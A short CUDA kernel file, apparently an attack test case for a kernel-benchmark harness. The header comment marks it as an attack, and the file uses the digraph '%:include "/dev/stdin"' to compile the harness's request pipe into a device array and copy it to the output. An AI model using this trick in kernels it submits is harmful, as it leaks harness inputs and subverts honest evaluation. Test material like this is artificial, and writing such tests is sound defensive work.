// Attack: /dev/stdin and /dev/fd/0, the request pipe again under other names.
// clang-format off
__device__ int leak[] = {
%:include "/dev/stdin"
};
// @kb launch gather_linear grid(B) block(32)
extern "C" __global__ void gather_linear(const float* x, const float* w,
                                         const float* bias, float* out,
                                         int R, int B, int H, int K) { out[0] = leak[0]; }
